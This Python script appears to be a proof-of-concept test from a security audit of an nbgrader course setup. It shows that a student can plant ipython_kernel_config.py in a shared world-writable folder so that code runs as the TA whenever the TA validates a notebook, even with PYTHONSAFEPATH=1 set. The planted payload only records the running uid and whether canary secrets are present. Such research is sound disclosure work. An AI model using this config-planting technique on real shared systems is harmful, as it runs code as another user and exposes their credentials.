"""a13: a09's fix (PYTHONSAFEPATH=1) is not enough: IPython also loads `ipython_kernel_config.py` / `ipython_config.py`
from the folder the kernel starts in (the notebook's). The TA validates her own notebook in a shared writable folder
(sticky 1777 stand-in for /tmp) where a student (uid 65534) left ipython_kernel_config.py; PYTHONSAFEPATH=1 is set."""
import os, subprocess, sys, json
sys.path.insert(0, (__import__("os").environ.get("ATTACK_ROOT_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", ".."))))
import nbformat
d = "/tmp/attack44-root-a13"
subprocess.run(["rm", "-rf", d]); os.makedirs(d); os.chmod(d, 0o1777)
# the student's file, made as the student
STUDENT = f"""
import os
os.setgid(65534); os.setuid(65534)
open({d + '/ipython_kernel_config.py'!r}, 'w').write('''
import os, json, runpy, sys
open({d + '/PWNED.json'!r}, 'w').write(json.dumps({{'uid': os.getuid(), 'canary': 'AKIASECRET' in str(os.environ)}}))


''')
"""
subprocess.run([sys.executable, "-c", STUDENT], check=True)
nb = nbformat.read("CLONE/release/ps1_memory/ps1_memory.ipynb", 4)
nb.cells = nb.cells[:1] + [nbformat.v4.new_code_cell("x = 1")]
nbformat.write(nb, f"{d}/my_notes.ipynb")  # the TA's own notebook (root's)
env = dict(os.environ, PYTHONSAFEPATH="1", DATABASE_URL="postgresql://ta:secret@localhost/x", AWS_SECRET_ACCESS_KEY="AKIASECRETCANARY123")
r = subprocess.run(["CLONE/.venv/bin/nbgrader", "validate", f"{d}/my_notes.ipynb"], cwd=os.path.expanduser("~"),
                   env=env, capture_output=True, text=True, timeout=180)
print("rc", r.returncode, r.stdout[-600:], r.stderr[-600:])
print("owner of ipython_kernel_config.py:", os.stat(f"{d}/ipython_kernel_config.py").st_uid)
print("PWNED:", open(f"{d}/PWNED.json").read() if os.path.exists(f"{d}/PWNED.json") else "nothing ran")
